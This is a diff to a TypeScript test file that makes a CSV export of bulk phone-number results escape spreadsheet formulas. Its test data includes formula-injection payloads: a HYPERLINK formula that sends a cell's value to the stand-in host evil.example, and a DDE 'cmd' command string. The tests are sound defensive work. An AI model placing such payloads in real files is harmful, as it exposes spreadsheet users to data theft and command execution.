@@ -24,12 +24,27 @@ const row = (line: number, outcome: BulkResultRow['outcome'] = 'accepted', error
 });
 
 describe('resultsCsv', () => {
-  it('writes exactly what csv-stringify writes, whatever the text', () => {
+  it('writes exactly what csv-stringify writes with escape_formulas, whatever the text', () => {
     const texts = ['', ' ', 'plain', 'a,b', 'say "hi"', '"', '""', 'two\nlines', 'cr\ronly', 'crlf\r\n', ','];
-    texts.push('=1+2', '-3', "'x", '\t tab', 'اردو، متن', '😀,"😀"');
+    texts.push('=1+2', '-3', '+92 300', '@x', "'x", '\t tab', '\rcr', '＝1', '=a,"b"', 'اردو، متن', '😀,"😀"');
     const rows: BulkResultRow[] = texts.map((text, i) => ({ line: i + 2, phone: text, outcome: 'invalid', uid: text, error: text }));
-    expect(resultsCsv(rows)).toBe(stringify(rows, { columns: [...RESULT_COLUMNS] }));
-    expect(resultsCsv([])).toBe(stringify([], { columns: [...RESULT_COLUMNS] }));
+    const options = { columns: [...RESULT_COLUMNS], escape_formulas: true };
+    expect(resultsCsv(rows)).toBe(stringify(rows, options));
+    expect(resultsCsv([])).toBe(stringify([], options));
+  });
+
+  it('writes a phone or an error that is a formula as text, so Excel does not run it', () => {
+    const link = '=HYPERLINK("http://evil.example/?q="&A1,"Click")';
+    const rows: BulkResultRow[] = [
+      { line: 2, phone: link, outcome: 'invalid', uid: '', error: `"${link}" is not a phone number` },
+      { line: 3, phone: '923001234567', outcome: 'rejected', uid: '', error: '+cmd|\' /C calc\'!A0' },
+      { line: 4, phone: '@SUM(1+1)*cmd', outcome: 'invalid', uid: '', error: '-2+3' },
+    ];
+    expect(parse(resultsCsv(rows))).toEqual([
+      ['2', `'${link}`, 'invalid', '', `"${link}" is not a phone number`],
+      ['3', '923001234567', 'rejected', '', "'+cmd|' /C calc'!A0"],
+      ['4', "'@SUM(1+1)*cmd", 'invalid', '', "'-2+3"],
+    ]);
   });
 
   it('quotes what needs quoting', () => {
